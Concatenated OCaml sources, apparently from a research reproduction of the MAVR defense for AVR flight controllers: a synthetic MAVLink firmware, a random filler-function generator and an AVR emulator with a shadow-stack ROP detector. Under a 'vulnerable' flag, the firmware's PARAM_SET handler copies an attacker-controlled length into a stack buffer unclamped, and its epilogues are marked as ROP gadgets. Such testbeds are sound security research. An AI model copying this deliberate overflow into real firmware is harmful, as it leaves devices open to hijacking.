          i (Isa.Std (Isa.Z, 0, 24));
          call "rx_crc_step";
          lds 25 Layout.st_idx;
          i (Isa.Inc 25);
          sts Layout.st_idx 25;
          lds 24 Layout.st_len;
          i (Isa.Cp (25, 24));
          brne "rb_done";
          call "rx_finalize";
        ]
      @ set_state 7 @ [ rjmp "rb_done" ]
      @ [
          lbl "rb_not6";
          i (Isa.Cpi (25, 7));
          brne "rb_not7";
          lds 25 Layout.rxcrc_lo;
          i (Isa.Cp (24, 25));
          brne "rb_bad";
        ]
      @ set_state 8 @ [ rjmp "rb_done" ]
      @ [
          lbl "rb_not7";
          i (Isa.Cpi (25, 8));
          brne "rb_bad";
          lds 25 Layout.rxcrc_hi;
          i (Isa.Cp (24, 25));
          brne "rb_bad";
          sts Layout.st_state 1;
          (* Message handlers run with interrupts off: an ISR firing while
             a handler owns the frame (or, during the attack, while SP is
             pivoted) would corrupt the stack it pushes onto. *)
          i (Isa.Bclr 7) (* cli *);
          call "handle_msg";
          i (Isa.Bset 7) (* sei *);
          rjmp "rb_done";
          lbl "rb_bad";
          sts Layout.st_state 1;
          lbl "rb_done";
          ret;
        ];
  }

(* Drain up to 16 received bytes per main-loop iteration. *)
let fn_mavlink_poll =
  {
    name = "mavlink_poll";
    items =
      [
        i (Isa.Push 17);
        ldi 17 16;
        lbl "mp_loop";
        i (Isa.In (24, Io.ucsra));
        i (Isa.Andi (24, 0x80));
        breq "mp_done";
        i (Isa.In (24, Io.udr));
        call "rx_byte";
        i (Isa.Dec 17);
        brne "mp_loop";
        lbl "mp_done";
        i (Isa.Pop 17);
        ret;
      ];
  }

let fn_handle_msg =
  {
    name = "handle_msg";
    items =
      [
        lds 24 Layout.st_msgid;
        i (Isa.Cpi (24, 23));
        brne "hm_not_param";
        call "handle_param_set";
        ret;
        lbl "hm_not_param";
        i (Isa.Cpi (24, 76));
        brne "hm_not_cmd";
        call "handle_command";
        ret;
        lbl "hm_not_cmd";
        i (Isa.Cpi (24, 200));
        brne "hm_not_cfg";
        call "handle_cfg_save";
        ret;
        lbl "hm_not_cfg";
        i (Isa.Cpi (24, 0));
        brne "hm_done";
        ldi 24 1;
        sts Layout.gcs_beat 24;
        lbl "hm_done";
        ret;
      ];
  }

(* The vulnerable PARAM_SET handler.  Its frame teardown (hps_teardown) is
   exactly the Fig. 4 stk_move gadget.  With ~vulnerable:true the copy
   length is the attacker-controlled MAVLink length field, unclamped. *)
let fn_handle_param_set ~vulnerable =
  let fs = Layout.vuln_frame_size in
  let clamp =
    if vulnerable then []
    else
      [
        i (Isa.Cpi (16, Layout.vuln_buffer_len + 1));
        brlo "hps_clamp_ok";
        ldi 16 Layout.vuln_buffer_len;
        lbl "hps_clamp_ok";
      ]
  in
  {
    name = "handle_param_set";
    items =
      [
        i (Isa.Push 16);
        i (Isa.Push 29);
        i (Isa.Push 28);
        i (Isa.In (0, Io.sreg));
        i (Isa.In (28, Io.spl));
        i (Isa.In (29, Io.sph));
        i (Isa.Subi (28, fs land 0xFF));
        i (Isa.Sbci (29, 0));
        i (Isa.Out (Io.sph, 29));
        i (Isa.Out (Io.spl, 28));
        (* Z <- buffer (Y+1), X <- STAGE, r16 <- received length *)
        i (Isa.Movw (30, 28));
        i (Isa.Adiw (30, 1));
        Ldi_sym (26, Lo8, "STAGE");
        Ldi_sym (27, Hi8, "STAGE");
        lds 16 Layout.st_len;
      ]
      @ clamp
      @ [
          lbl "hps_copy";
          i (Isa.Cp (16, 1));
          breq "hps_copied";
          i (Isa.Ld (18, Isa.X_inc));
          i (Isa.St (Isa.Z_inc, 18));
          i (Isa.Dec 16);
          rjmp "hps_copy";
          lbl "hps_copied";
          call "param_store";
          (* release frame: Y += frame size *)
          i (Isa.Subi (28, (-fs) land 0xFF));
          i (Isa.Sbci (29, 0xFF));
          (* Fig. 4: the stk_move gadget *)
          lbl "hps_teardown";
          i (Isa.Out (Io.sph, 29));
          i (Isa.Out (Io.sreg, 0));
          i (Isa.Out (Io.spl, 28));
          i (Isa.Pop 28);
          i (Isa.Pop 29);
          i (Isa.Pop 16);
          ret;
        ];
  }

(* Stores the first three staged payload bytes to the parameter area.
   Its tail from ps_write_mem is exactly the Fig. 5 write_mem_gadget. *)
let fn_param_store =
  let pushes = List.init 14 (fun k -> i (Isa.Push (4 + k))) (* r4..r17 *) in
  let pops =
    List.map (fun r -> i (Isa.Pop r)) [ 17; 16; 15; 14; 13; 12; 11; 10; 9; 8; 7; 6; 5; 4 ]
  in
  {
    name = "param_store";
    items =
      pushes
      @ [
          i (Isa.Push 28);
          i (Isa.Push 29);
          lds 5 Layout.stage;
          lds 6 (Layout.stage + 1);
          lds 7 (Layout.stage + 2);
          ldi 28 (Layout.param_area land 0xFF);
          ldi 29 ((Layout.param_area lsr 8) land 0xFF);
          lbl "ps_write_mem";
          i (Isa.Std (Isa.Y, 1, 5));
          i (Isa.Std (Isa.Y, 2, 6));
          i (Isa.Std (Isa.Y, 3, 7));
          lbl "ps_pops";
          i (Isa.Pop 29);
          i (Isa.Pop 28);
        ]
      @ pops @ [ ret ];
  }

let fn_handle_command =
  {
    name = "handle_command";
    items =
      [
        lds 24 Layout.st_len;
        i (Isa.Cpi (24, 17));
        brlo "hc_ok";
        ldi 24 16;
        lbl "hc_ok";
        Ldi_sym (26, Lo8, "STAGE");
        Ldi_sym (27, Hi8, "STAGE");
        ldi 30 (Layout.cmd_area land 0xFF);
        ldi 31 ((Layout.cmd_area lsr 8) land 0xFF);
        lbl "hc_loop";
        i (Isa.Cp (24, 1));
        breq "hc_done";
        i (Isa.Ld (18, Isa.X_inc));
        i (Isa.St (Isa.Z_inc, 18));
        i (Isa.Dec 24);
        rjmp "hc_loop";
        lbl "hc_done";
        ret;
      ];
  }

let fn_sensor_update =
  {
    name = "sensor_update";
    items =
      [
        i (Isa.In (24, Io.gyro_lo));
        i (Isa.In (25, Io.gyro_hi));
        lds 18 Layout.gyro_cfg;
        i (Isa.Add (24, 18));
        lds 18 (Layout.gyro_cfg + 1);
        i (Isa.Adc (25, 18));
        sts Layout.gyro_val 24;
        sts (Layout.gyro_val + 1) 25;
        sts (Layout.telem + Layout.telem_gyro_off) 24;
        sts (Layout.telem + Layout.telem_gyro_off + 1) 25;
        i (Isa.In (24, Io.accel_lo));
        i (Isa.In (25, Io.accel_hi));
        sts (Layout.telem + Layout.telem_accel_off) 24;
        sts (Layout.telem + Layout.telem_accel_off + 1) 25;
        ret;
      ];
  }

(* Transmit one byte (waiting for the data register to go ready) and fold
   it into the TX checksum (tail jmp). *)
let fn_tx_send_crc =
  {
    name = "tx_send_crc";
    items =
      [
        lbl "tsc_wait";
        i (Isa.Sbis (Io.ucsra, 5)) (* skip the loop branch once UDRE is set *);
        rjmp "tsc_wait";
        i (Isa.Out (Io.udr, 24));
        Jmp_sym "tx_crc_step";
      ];
  }

(* Transmit one raw byte (no checksum), honouring the UDRE handshake. *)
let fn_tx_send_raw =
  {
    name = "tx_send_raw";
    items =
      [
        lbl "tsr_wait";
        i (Isa.Sbis (Io.ucsra, 5));
        rjmp "tsr_wait";
        i (Isa.Out (Io.udr, 24));
        ret;
      ];
  }

(* Generic frame sender: r20 = CRC_EXTRA, r21 = msgid, r22 = len,
   X = payload address. *)
let fn_send_frame =
  {
    name = "send_frame";
    items =
      [
        ldi 24 0xFF;
        sts Layout.txcrc_lo 24;
        sts Layout.txcrc_hi 24;
        ldi 24 0xFE;
        call "tx_send_raw";
        i (Isa.Mov (24, 22));
        call "tx_send_crc";
        lds 24 Layout.txseq;
        i (Isa.Inc 24);
        sts Layout.txseq 24;
        call "tx_send_crc";
        ldi 24 1;
        call "tx_send_crc";
        ldi 24 1;
        call "tx_send_crc";
        i (Isa.Mov (24, 21));
        call "tx_send_crc";
        i (Isa.Mov (25, 22));
        lbl "sf_loop";
        i (Isa.Cp (25, 1));
        breq "sf_crc";
        i (Isa.Ld (24, Isa.X_inc));
        call "tx_send_crc";
        i (Isa.Dec 25);
        rjmp "sf_loop";
        lbl "sf_crc";
        i (Isa.Mov (24, 20));
        call "tx_crc_step";
        lds 24 Layout.txcrc_lo;
        call "tx_send_raw";
        lds 24 Layout.txcrc_hi;
        call "tx_send_raw";
        ret;
      ];
  }

(* RAW_IMU telemetry every 32 iterations, HEARTBEAT every 64. *)
let fn_telemetry_send =
  {
    name = "telemetry_send";
    items =
      [
        lds 24 Layout.loop_lo;
        i (Isa.Andi (24, 31));
        i (Isa.Cp (24, 1));
        breq "ts_go";
        ret;
        lbl "ts_go";
        ldi 26 (Layout.telem land 0xFF);
        ldi 27 ((Layout.telem lsr 8) land 0xFF);
        ldi 20 144;
        ldi 21 27;
        ldi 22 26;
        call "send_frame";
        lds 24 Layout.loop_lo;
        i (Isa.Andi (24, 63));
        i (Isa.Cp (24, 1));
        breq "ts_hb";
        ret;
        lbl "ts_hb";
        ldi 26 (Layout.telem land 0xFF);
        ldi 27 ((Layout.telem lsr 8) land 0xFF);
        ldi 20 50;
        ldi 21 0;
        ldi 22 9;
        call "send_frame";
        ret;
      ];
  }

(* Indirect dispatch through the RAM copy of the vtable — the function
   pointers MAVR's preprocessing finds in the data section. *)
let fn_dispatch_vtable =
  {
    name = "dispatch_vtable";
    items =
      [
        lds 24 Layout.loop_lo;
        i (Isa.Andi (24, Layout.vtable_entries - 1));
        i (Isa.Add (24, 24));
        Ldi_sym (26, Lo8, "VTABLE_VMA");
        Ldi_sym (27, Hi8, "VTABLE_VMA");
        i (Isa.Add (26, 24));
        i (Isa.Adc (27, 1));
        i (Isa.Ld (30, Isa.X_inc));
        i (Isa.Ld (31, Isa.X));
        i Isa.Icall;
        ret;
      ];
  }

let fn_control_step ~roots =
  { name = "control_step"; items = List.map (fun r -> call r) roots @ [ ret ] }

let fn_main =
  {
    name = "__main";
    items =
      [
        lbl "main_loop";
        ldi 24 1;
        i (Isa.Out (Io.wdt_feed, 24));
        call "mavlink_poll";
        call "sensor_update";
        call "control_step";
        call "dispatch_vtable";
        call "telemetry_send";
        lds 24 Layout.loop_lo;
        i (Isa.Inc 24);
        sts Layout.loop_lo 24;
        sts Layout.telem 24;
        brne "ml_nohi";
        lds 24 Layout.loop_hi;
        i (Isa.Inc 24);
        sts Layout.loop_hi 24;
        sts (Layout.telem + 1) 24;
        lbl "ml_nohi";
        rjmp "main_loop";
      ];
  }

let fn_reset =
  {
    name = "__reset";
    items =
      [
        i (Isa.Eor (1, 1));
        Ldi_sym (28, Lo8, "STACK_TOP");
        Ldi_sym (29, Hi8, "STACK_TOP");
        i (Isa.Out (Io.spl, 28));
        i (Isa.Out (Io.sph, 29));
        (* copy .data initializer from flash to SRAM *)
        Ldi_sym (30, Lo8, "__data_init");
        Ldi_sym (31, Hi8, "__data_init");
        Ldi_sym (26, Lo8, "DATA_VMA");
        Ldi_sym (27, Hi8, "DATA_VMA");
        Ldi_sym (24, Lo8, "__data_init_end");
        Ldi_sym (25, Hi8, "__data_init_end");
        lbl "rst_copy";
        i (Isa.Cp (30, 24));
        i (Isa.Cpc (31, 25));
        breq "rst_copied";
        i (Isa.Lpm (0, true));
        i (Isa.St (Isa.X_inc, 0));
        rjmp "rst_copy";
        lbl "rst_copied";
        sts Layout.st_state 1;
        sts Layout.loop_lo 1;
        sts Layout.loop_hi 1;
        sts Layout.txseq 1;
        sts Layout.gcs_beat 1;
        sts Layout.tick 1;
        sts (Layout.tick + 1) 1;
        call "config_load";
        (* 4096-cycle periodic timer, interrupts on. *)
        ldi 24 63;
        i (Isa.Out (Io.ocr, 24));
        ldi 24 1;
        i (Isa.Out (Io.tccr, 24));
        i (Isa.Bset 7) (* sei *);
        call "__main";
        lbl "rst_hang";
        rjmp "rst_hang";
      ];
  }

let fn_bad_irq = { name = "__bad_irq"; items = [ lbl "irq_hang"; rjmp "irq_hang" ] }

(* Timer-compare ISR: increments a 16-bit tick counter.  Saves exactly
   what it touches (r24 and SREG), as a hand-written AVR ISR would. *)
let fn_timer_isr =
  {
    name = "__timer_isr";
    items =
      [
        i (Isa.Push 24);
        i (Isa.In (24, Io.sreg));
        i (Isa.Push 24);
        lds 24 Layout.tick;
        i (Isa.Inc 24);
        sts Layout.tick 24;
        brne "tisr_done";
        lds 24 (Layout.tick + 1);
        i (Isa.Inc 24);
        sts (Layout.tick + 1) 24;
        lbl "tisr_done";
        i (Isa.Pop 24);
        i (Isa.Out (Io.sreg, 24));
        i (Isa.Pop 24);
        i Isa.Reti;
      ];
  }

(* EEPROM driver (Fig. 1's third memory): byte read/write through the
   EEAR/EEDR/EECR strobe protocol. *)
let fn_eeprom_read_byte =
  {
    name = "eeprom_read_byte";
    items =
      [
        i (Isa.Out (Io.eearl, 24));
        i (Isa.Out (Io.eearh, 25));
        i (Isa.Sbi (Io.eecr, 0)) (* EERE strobe *);
        i (Isa.In (24, Io.eedr));
        ret;
      ];
  }

let fn_eeprom_write_byte =
  {
    name = "eeprom_write_byte";
    items =
      [
        i (Isa.Out (Io.eearl, 24));
        i (Isa.Out (Io.eearh, 25));
        i (Isa.Out (Io.eedr, 22));
        i (Isa.Sbi (Io.eecr, 1)) (* EEPE strobe *);
        ret;
      ];
  }

(* Load the persistent gyro calibration from EEPROM[0..1] at boot; an
   erased cell pair (0xFFFF) means factory default 0. *)
let fn_config_load =
  {
    name = "config_load";
    items =
      [
        ldi 24 0;
        ldi 25 0;
        call "eeprom_read_byte";
        i (Isa.Mov (20, 24));
        ldi 24 1;
        ldi 25 0;
        call "eeprom_read_byte";
        i (Isa.Mov (21, 24));
        i (Isa.Cpi (20, 0xFF));
        brne "cfl_store";
        i (Isa.Cpi (21, 0xFF));
        brne "cfl_store";
        ldi 20 0;
        ldi 21 0;
        lbl "cfl_store";
        sts Layout.gyro_cfg 20;
        sts (Layout.gyro_cfg + 1) 21;
        ret;
      ];
  }

(* CFG_SAVE (msgid 200): persist the first two staged payload bytes as the
   gyro calibration — in SRAM for immediate effect and in EEPROM so the
   setting survives reboots and MAVR reflashes. *)
let fn_handle_cfg_save =
  {
    name = "handle_cfg_save";
    items =
      [
        lds 22 Layout.stage;
        sts Layout.gyro_cfg 22;
        ldi 24 0;
        ldi 25 0;
        call "eeprom_write_byte";
        lds 22 (Layout.stage + 1);
        sts (Layout.gyro_cfg + 1) 22;
        ldi 24 1;
        ldi 25 0;
        call "eeprom_write_byte";
        ret;
      ];
  }

(* Shared pop-run epilogue (the -mcall-prologues consolidation, §VI-B1):
   functions jump into it at an offset selecting how many registers to
   restore.  Layout (word offsets): 0:pop r15 1:pop r14 ... 5:pop r10
   6:pop r29 7:pop r28 8:ret. *)
let fn_epilogue_restores =
  {
    name = "__epilogue_restores__";
    items = List.map (fun r -> i (Isa.Pop r)) [ 15; 14; 13; 12; 11; 10; 29; 28 ] @ [ ret ];
  }

(* A safe mid-entry shared tail: jumping to word offset 0/2/4 performs
   3/2/1 stores then returns — the "trampoline that does not point exactly
   to a symbol address" case of §VI-B3. *)
let fn_shared_tail =
  {
    name = "__shared_tail";
    items =
      [
        sts (Layout.cmd_area + 8) 24;
        sts (Layout.cmd_area + 9) 24;
        sts (Layout.cmd_area + 10) 24;
        ret;
      ];
  }

let function_names =
  [
    "__reset"; "__bad_irq"; "__main"; "mavlink_poll"; "rx_byte"; "rx_crc_step"; "rx_finalize";
    "handle_msg"; "handle_param_set"; "param_store"; "handle_command"; "sensor_update";
    "tx_crc_step"; "tx_send_crc"; "tx_send_raw"; "send_frame"; "telemetry_send"; "dispatch_vtable";
    "control_step"; "eeprom_read_byte"; "eeprom_write_byte"; "config_load";
    "handle_cfg_save"; "__timer_isr"; "__epilogue_restores__"; "__shared_tail";
  ]

let functions ~toolchain ~roots () =
  [
    fn_reset;
    fn_bad_irq;
    fn_main;
    fn_mavlink_poll;
    fn_rx_byte;
    fn_rx_crc_step;
    fn_rx_finalize;
    fn_handle_msg;
    fn_handle_param_set ~vulnerable:toolchain.Profile.vulnerable;
    fn_param_store;
    fn_handle_command;
    fn_sensor_update;
    fn_tx_crc_step;
    fn_tx_send_crc;
    fn_tx_send_raw;
    fn_send_frame;
    fn_telemetry_send;
    fn_dispatch_vtable;
    fn_control_step ~roots;
    fn_eeprom_read_byte;
    fn_eeprom_write_byte;
    fn_config_load;
    fn_handle_cfg_save;
    fn_timer_isr;
    fn_epilogue_restores;
    fn_shared_tail;
  ]

let vectors () =
  (* 57 interrupt vectors (ATmega2560): reset, the timer-compare handler,
     and spin stubs for the unused ones; then the early-flash rodata kept
     within 16-bit lpm reach (the .data initializer and CRC_EXTRA table
     are appended by Build). *)
  Jmp_sym "__reset" :: Jmp_sym "__timer_isr"
  :: List.init (Mavr_avr.Device.Vector.count - 2) (fun _ -> Jmp_sym "__bad_irq")
