open Mavr_asm.Assembler
module Isa = Mavr_avr.Isa
module Rng = Mavr_prng.Splitmix

let name i = Printf.sprintf "fn_%04d" i

let i x = Insn x

(* Caller-saved working registers used by filler bodies. *)
let work_regs = [| 18; 19; 20; 21; 22; 23; 24; 25 |]

let gen_alu rng =
  let a = Rng.pick rng work_regs and b = Rng.pick rng work_regs in
  let k = Rng.int rng 256 in
  match Rng.int rng 6 with
  | 0 -> [ i (Isa.Ldi (a, k)); i (Isa.Add (a, b)) ]
  | 1 -> [ i (Isa.Ldi (a, k)); i (Isa.Eor (a, b)) ]
  | 2 -> [ i (Isa.Mov (a, b)); i (Isa.Subi (a, k)) ]
  | 3 -> [ i (Isa.Andi (a, k)) ]
  | 4 -> [ i (Isa.Ori (a, k)); i (Isa.Sub (a, b)) ]
  | _ -> [ i (Isa.Ldi (a, k)); i (Isa.Or (a, b)) ]

let gen_unop rng =
  let a = Rng.pick rng work_regs in
  match Rng.int rng 5 with
  | 0 -> [ i (Isa.Inc a) ]
  | 1 -> [ i (Isa.Dec a) ]
  | 2 -> [ i (Isa.Com a) ]
  | 3 -> [ i (Isa.Swap a) ]
  | _ -> [ i (Isa.Lsr a) ]

let gen_mem rng ~scratch =
  let off = Rng.int rng 8 in
  match Rng.int rng 3 with
  | 0 -> [ i (Isa.Lds (24, scratch + off)) ]
  | 1 -> [ i (Isa.Sts (scratch + off, 24)) ]
  | _ -> [ i (Isa.Lds (24, scratch + off)); i (Isa.Subi (24, Rng.int rng 256)); i (Isa.Sts (scratch + off, 24)) ]

let gen_wide rng =
  let d = Rng.pick rng [| 24; 26 |] in
  let k = Rng.int rng 64 in
  if Rng.bool rng then [ i (Isa.Adiw (d, k)) ] else [ i (Isa.Sbiw (d, k)) ]

let gen_branch rng ~fname ~label_counter =
  incr label_counter;
  let l = Printf.sprintf "%s_l%d" fname !label_counter in
  let a = Rng.pick rng work_regs in
  [
    i (Isa.Cpi ((if a >= 16 then a else 24), Rng.int rng 256));
    Br ((if Rng.bool rng then `Cbit Isa.Flag.z else `Sbit Isa.Flag.z), l);
    i (Isa.Ldi ((if a >= 16 then a else 24), Rng.int rng 256));
    Label l;
  ]

let gen_y rng =
  let q = 1 + Rng.int rng 8 in
  if Rng.bool rng then [ i (Isa.Std (Isa.Y, q, 24)) ] else [ i (Isa.Ldd (25, Isa.Y, q)) ]

(* A bounded countdown loop — the shape avr-gcc emits for small memsets
   and delays. *)
let gen_loop rng ~fname ~label_counter =
  incr label_counter;
  let l = Printf.sprintf "%s_l%d" fname !label_counter in
  let counter = 16 + Rng.int rng 8 in
  [
    i (Isa.Ldi (counter, 1 + Rng.int rng 7));
    Label l;
    i (Isa.Dec counter);
    Br (`Cbit Isa.Flag.z, l);
  ]

(* Register-bit skips and T-flag bit moves (sbrc/sbrs/bst/bld). *)
let gen_bitops rng =
  let a = Rng.pick rng work_regs and b = Rng.pick rng work_regs in
  let bit = Rng.int rng 8 in
  match Rng.int rng 3 with
  | 0 -> [ i (Isa.Sbrc (a, bit)); i (Isa.Inc b) ]
  | 1 -> [ i (Isa.Sbrs (a, bit)); i (Isa.Dec b) ]
  | _ -> [ i (Isa.Bst (a, bit)); i (Isa.Bld (b, Rng.int rng 8)) ]

(* One filler function.  [callee] is the single optional call target (a
   bounded-depth DAG: at most one call per function keeps the number of
   dynamic call paths linear). *)
let gen_function ~toolchain ~rng ~idx ~count ~avg_body_units =
  let fname = name idx in
  let scratch = Layout.scratch idx in
  let callee =
    if idx + 10 < count && Rng.int rng 100 < 65 then
      Some (name (Rng.range rng (idx + 10) (min (idx + 60) (count - 1))))
    else None
  in
  let framed = Rng.int rng 100 < 12 in
  let k_saved = Rng.int rng 4 in
  (* Draw unconditionally so stock and MAVR toolchains consume the same
     random stream: size deltas then reflect the flags alone. *)
  let shared_draw = Rng.int rng 100 in
  let tail_draw = Rng.int rng 100 in
  let shared_epi =
    toolchain.Profile.call_prologues && (not framed) && k_saved >= 1 && shared_draw < 60
  in
  let tail_jump =
    (not framed) && (not shared_epi) && k_saved = 0 && callee = None && tail_draw < 8
  in
  let saved = List.init k_saved (fun j -> 10 + j) in
  let pushes =
    (if framed || shared_epi then [ i (Isa.Push 28); i (Isa.Push 29) ] else [])
    @ List.map (fun r -> i (Isa.Push r)) saved
  in
  let frame_setup =
    if framed then
      [ i (Isa.Ldi (28, scratch land 0xFF)); i (Isa.Ldi (29, (scratch lsr 8) land 0xFF)) ]
    else []
  in
  let label_counter = ref 0 in
  let units = Rng.range rng (max 1 (avg_body_units / 2)) (max 2 (avg_body_units * 3 / 2)) in
  let body = ref [] in
  let call_slot = if callee = None then -1 else Rng.int rng units in
  for u = 0 to units - 1 do
    let unit =
      if u = call_slot then
        match callee with Some c -> [ Call_sym c ] | None -> gen_alu rng
      else
        match Rng.int rng 100 with
        | n when n < 38 -> gen_alu rng
        | n when n < 52 -> gen_mem rng ~scratch
        | n when n < 62 -> gen_unop rng
        | n when n < 70 -> gen_branch rng ~fname ~label_counter
        | n when n < 76 -> gen_wide rng
        | n when n < 82 -> gen_loop rng ~fname ~label_counter
        | n when n < 88 -> gen_bitops rng
        | n when n < 94 && framed -> gen_y rng
        | _ -> gen_alu rng
    in
    body := !body @ unit
  done;
  let epilogue =
    if tail_jump then [ Jmp_sym_off ("__shared_tail", Rng.pick rng [| 0; 2; 4 |]) ]
    else if shared_epi then
      (* Enter the shared pop run at the offset matching k_saved registers:
         word offsets 0..5 pop r15..r10, then r29, r28, ret. *)
      [ Jmp_sym_off ("__epilogue_restores__", 6 - k_saved) ]
    else
      List.map (fun r -> i (Isa.Pop r)) (List.rev saved)
      @ (if framed then [ i (Isa.Pop 29); i (Isa.Pop 28) ] else [])
      @ [ i Isa.Ret ]
  in
  { name = fname; items = pushes @ frame_setup @ !body @ epilogue }

let generate ~toolchain ~rng ~count ~avg_body_units =
  List.init count (fun idx ->
      let frng = Rng.split rng in
      gen_function ~toolchain ~rng:frng ~idx ~count ~avg_body_units)
