lib/mavr/security.ml: Mavr_bignum Mavr_prng
