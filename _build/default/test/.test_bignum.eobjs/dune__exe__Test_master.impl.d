test/test_master.ml: Alcotest Char Float Helpers List Mavr_avr Mavr_core Mavr_firmware Mavr_obj String
