open Isa

type halt =
  | Illegal_instruction of { byte_addr : int; word : int }
  | Wild_pc of int
  | Break_hit
  | Sleep_mode
  | Rop_detected of { expected : int; got : int }

let pp_halt fmt = function
  | Illegal_instruction { byte_addr; word } ->
      Format.fprintf fmt "illegal instruction 0x%04x at 0x%x" word byte_addr
  | Wild_pc a -> Format.fprintf fmt "wild PC at 0x%x" a
  | Break_hit -> Format.fprintf fmt "break"
  | Sleep_mode -> Format.fprintf fmt "sleep"
  | Rop_detected { expected; got } ->
      Format.fprintf fmt "shadow-stack violation: ret to 0x%x, expected 0x%x" got expected

type t = {
  mem : Memory.t;
  dev : Device.t;
  mutable pc : int; (* word address *)
  mutable cycles : int;
  mutable retired : int;
  mutable halt : halt option;
  mutable program_bytes : int; (* extent of the flashed image; PC beyond => wild *)
  uart_rx : int Queue.t;
  uart_tx : Buffer.t;
  mutable feeds : int;
  mutable last_feed : int;
  mutable shadow : int list option; (* Some stack when the monitor is on *)
  mutable shadow_overhead : int;
  mutable timer_next_fire : int; (* cycle of the next compare interrupt *)
  mutable interrupts_taken : int;
  mutable tx_cycles_per_byte : int;
  mutable tx_busy_until : int;
  (* Predecode cache: one entry per word PC.  [icache_words.(pc)] is the
     instruction length in words (1 or 2), with 0 meaning "not decoded
     yet"; [icache_insn.(pc)] is only meaningful when the length is
     non-zero.  Entries are filled on first execution and the whole
     cache is discarded whenever the flash epoch moves (reflash /
     bootloader page write), so a freshly randomized lifetime can never
     dispatch a stale decode. *)
  mutable icache_insn : Isa.t array;
  mutable icache_words : int array;
  mutable icache_epoch : int;
  mutable use_icache : bool;
  (* SREG and SP are architecturally memory-mapped (0x5F / 0x5D-0x5E) but
     live here as plain ints: the flag helpers touch SREG on nearly every
     instruction and the stack pointer on every push/pop, so routing them
     through the byte array costs bounds checks and char conversions on
     the hottest path.  [io_read]/[io_write] intercept their I/O addresses
     so guest loads/stores still see the same values. *)
  mutable sreg_v : int;
  mutable sp_v : int;
  (* Scratch for the cycle cost of the instruction being executed; a
     field rather than a [ref] so [exec_one] does not allocate. *)
  mutable cyc : int;
  (* Telemetry taps.  The instruction tap is the only one on the hot
     path, so it is guarded by a plain bool ([tap_on]) with a no-op
     closure behind it: when tracing is off the per-instruction cost is
     one load + one predictable branch, nothing else.  The interrupt and
     halt taps sit on cold paths and stay options. *)
  mutable tap_on : bool;
  mutable tap_insn : int -> Isa.t -> unit; (* word PC of the insn, decoded insn *)
  mutable tap_irq : (int -> unit) option; (* dispatch latency in cycles *)
  mutable tap_halt : (halt -> unit) option;
}

let create ?(device = Device.atmega2560) () =
  {
    mem = Memory.create device;
    dev = device;
    pc = 0;
    cycles = 0;
    retired = 0;
    halt = None;
    program_bytes = device.Device.flash_bytes;
    uart_rx = Queue.create ();
    uart_tx = Buffer.create 256;
    feeds = 0;
    last_feed = 0;
    shadow = None;
    shadow_overhead = 0;
    timer_next_fire = max_int;
    interrupts_taken = 0;
    tx_cycles_per_byte = 0;
    tx_busy_until = 0;
    icache_insn = [||];
    icache_words = [||];
    icache_epoch = -1;
    use_icache = true;
    sreg_v = 0;
    sp_v = 0;
    cyc = 0;
    tap_on = false;
    tap_insn = (fun _ _ -> ());
    tap_irq = None;
    tap_halt = None;
  }

let mem t = t.mem
let device t = t.dev

(* Register file: memory-mapped at data 0x00..0x1F. *)
let reg t r = Memory.reg_get t.mem r
let set_reg t r v = Memory.reg_set t.mem r v

let io_addr t a = t.dev.Device.io_base + a
let sp t = t.sp_v
let set_sp t v = t.sp_v <- v land 0xFFFF
let sreg t = t.sreg_v
let set_sreg t v = t.sreg_v <- v land 0xFF
let pc t = t.pc
let pc_byte_addr t = t.pc * 2
let set_pc t v = t.pc <- v
let cycles t = t.cycles
let instructions_retired t = t.retired
let halted t = t.halt

(* Single halt funnel: every path that stops the CPU goes through here so
   the halt tap (the flight-recorder dump trigger) fires exactly once per
   fault, whichever execution entry point was driving. *)
let set_halt t h =
  t.halt <- Some h;
  match t.tap_halt with None -> () | Some f -> f h

let force_halt t h = set_halt t h

(* ---- Telemetry taps ------------------------------------------------- *)

let no_insn_tap _ _ = ()

let set_insn_tap t = function
  | None ->
      t.tap_on <- false;
      t.tap_insn <- no_insn_tap
  | Some f ->
      t.tap_insn <- f;
      t.tap_on <- true

let insn_tap_active t = t.tap_on
let set_irq_tap t f = t.tap_irq <- f
let set_halt_tap t f = t.tap_halt <- f

let reset t =
  (match t.shadow with Some _ -> t.shadow <- Some [] | None -> ());
  t.timer_next_fire <- max_int;
  t.pc <- 0;
  t.cycles <- 0;
  t.retired <- 0;
  t.halt <- None;
  (* Cycle-anchored peripheral state must restart with the clock, or a
     reflashed CPU would see a transmitter busy for an entire previous
     lifetime and a watchdog that never times out. *)
  t.tx_busy_until <- 0;
  t.last_feed <- 0;
  (* Likewise the UART FIFOs and event counters: a reflashed lifetime
     must not inherit the previous lifetime's pending RX bytes (a
     half-received attack payload would replay into the fresh image),
     untaken TX bytes, or watchdog/interrupt tallies. *)
  Queue.clear t.uart_rx;
  Buffer.clear t.uart_tx;
  t.feeds <- 0;
  t.interrupts_taken <- 0;
  set_sp t (Device.data_end t.dev - 1);
  set_sreg t 0

let load_program t image =
  Memory.load_flash t.mem image;
  t.program_bytes <- String.length image;
  reset t

(* ---- Predecode cache ------------------------------------------------ *)

let set_decode_cache t enabled = t.use_icache <- enabled
let decode_cache_enabled t = t.use_icache

(* Rebuild (or first-build) the cache skeleton for the current flash
   epoch.  Entries are decoded lazily on first execution: per-lifetime
   randomized images rarely execute every word, and ROP gadgets enter
   mid-instruction, so the cache must cover *every* word address rather
   than just a linear disassembly — lazy fill gives both for free. *)
let refresh_icache t =
  let nwords = (t.program_bytes + 1) / 2 in
  if Array.length t.icache_words = nwords then Array.fill t.icache_words 0 nwords 0
  else begin
    t.icache_words <- Array.make nwords 0;
    t.icache_insn <- Array.make nwords Isa.Nop
  end;
  t.icache_epoch <- Memory.flash_epoch t.mem

let decode_raw t pc =
  Decode.decode (Memory.flash_word t.mem pc) (Memory.flash_word t.mem (pc + 1))

(* Decode word address [pc] and store it in the cache (in-range [pc]
   only).  Returns the instruction; the length lands in [icache_words]. *)
let fill_entry t pc =
  let insn, words = decode_raw t pc in
  Array.unsafe_set t.icache_insn pc insn;
  Array.unsafe_set t.icache_words pc words;
  insn

(* Re-validate the cache against the flash epoch, so a reflash (the
   per-lifetime re-randomization path) can never serve stale decodes.
   Nothing executed by [exec_one] can mutate flash (there is no SPM
   instruction; reflashes happen host-side between calls), so the public
   execution entry points sync once instead of paying an epoch compare
   per instruction. *)
let sync_icache t =
  if t.use_icache && t.icache_epoch <> Memory.flash_epoch t.mem then refresh_icache t

(* Fetch the (insn, length-in-words) pair at word address [pc].
   Precondition: the cache is sync'd ([sync_icache]).  [skip_next] can
